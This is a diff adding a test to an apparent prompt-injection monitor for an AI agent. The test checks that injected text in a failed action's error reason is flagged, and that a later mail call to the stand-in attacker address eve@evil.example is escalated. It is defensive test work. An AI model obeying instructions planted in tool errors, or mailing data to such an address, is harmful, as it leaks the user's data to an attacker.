@@ -192,6 +192,21 @@ def test_what_came_back_is_flagged_with_its_place(kit: Any) -> None:
     assert "eve@" not in verdict.feedback
 
 
+def test_an_error_message_is_searched_like_a_result(kit: Any) -> None:
+    """What an action says when it fails comes from outside too, and a call that would follow it is escalated."""
+    view = kit.View(Task(prompt=PROMPT), Injection(), actions=ACTIONS)
+    view.propose("r", READ)
+    view.add(events.ActionOutcome(key="r", action="read_inbox", digest="", status="failed"), reason=EVIL)
+    record = ObservationRecord(call=READ, value=None, tainted=True, status="failed", reason=EVIL)
+    verdict: Verdict = view.review(Subject(kind="observation", key="r", observation=record))
+    assert verdict.decision == "flag"
+    assert {each.path for each in verdict.evidence} == {"observation/reason"}
+    said = msgspec.to_builtins(msgspec.structs.replace(verdict, monitor="injection"))
+    view.add(events.Reviewed(key="r", subject="observation", digest="", decision=verdict.decision), verdicts=[said])
+    call = mail("eve@evil.example")
+    assert view.review(Subject(kind="action", key="1", plan=(call,), call=call)).decision == "escalate"
+
+
 def test_clean_and_trusted_results_are_not_flagged(kit: Any) -> None:
     """Of what is inside our trust nothing is said."""
     assert observed(kit, [{"body": "lunch?"}])[1].decision == "allow"
